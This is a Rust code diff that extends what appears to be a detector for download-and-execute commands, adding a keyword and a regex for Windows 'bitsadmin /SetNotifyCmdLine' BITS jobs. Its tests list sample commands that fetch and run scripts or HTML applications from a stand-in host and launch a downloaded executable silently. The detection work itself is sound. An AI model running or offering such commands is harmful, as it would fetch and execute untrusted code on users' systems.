@@ -34,6 +34,7 @@ pub(super) const ANCHORS: &[&str] = &[
     "invoke-restmethod",
     "downloadfile",
     "mshta",
+    "bitsadmin",
 ];
 
 struct Patterns {
@@ -56,6 +57,9 @@ struct Patterns {
     /// `mshta https://…/x.hta`: Windows fetches an HTML application and runs
     /// its script (the ClickFix lures' command), or runs the script given.
     mshta: Regex,
+    /// `bitsadmin /SetNotifyCmdLine JOB prog`: a BITS job that starts a
+    /// program when its download completes (ATT&CK's "BITS Jobs").
+    bits: Regex,
 }
 
 static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
@@ -90,6 +94,7 @@ static PATTERNS: LazyLock<Patterns> = LazyLock::new(|| {
         )
         .unwrap(),
         mshta: Regex::new(r#"(?i)(?-u:\b)mshta(?:\.exe)?[ \t]+["']?(?:https?://|\\\\|vbscript:|javascript:)"#).unwrap(),
+        bits: Regex::new(r"(?i)(?-u:\b)bitsadmin(?:\.exe)?[ \t][^\n]*?/setnotifycmdline[ \t]+[^ \t\n]+[ \t]+[^ \t\n]").unwrap(),
     }
 });
 
@@ -107,6 +112,7 @@ impl Patterns {
             &self.to_file,
             &self.ps_to_file,
             &self.mshta,
+            &self.bits,
         ]
     }
 }
@@ -165,7 +171,7 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
             add(sink, seg.abs(all.range()), None);
         }
     }
-    for re in [&p.process_substitution, &p.command_substitution, &p.ps_pipe, &p.ps_iex, &p.mshta] {
+    for re in [&p.process_substitution, &p.command_substitution, &p.ps_pipe, &p.ps_iex, &p.mshta, &p.bits] {
         for m in re.find_iter(s) {
             add(sink, seg.abs(m.range()), None);
         }
@@ -588,6 +594,7 @@ mod tests {
             "Invoke-Expression -Command (Invoke-RestMethod https://x.example/a.ps1)",
             "$cmd = 'mshta https://x.example/v/' + $id + '.hta'",
             "mshta.exe \"https://x.example/check.hta\"",
+            "bitsadmin /SetNotifyCmdLine %JOB% \"%DEST%\\fcupd.exe\" \"fcupd.exe --silent\" >nul",
             "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")",
         ] {
             assert!(flags(t), "{t}");
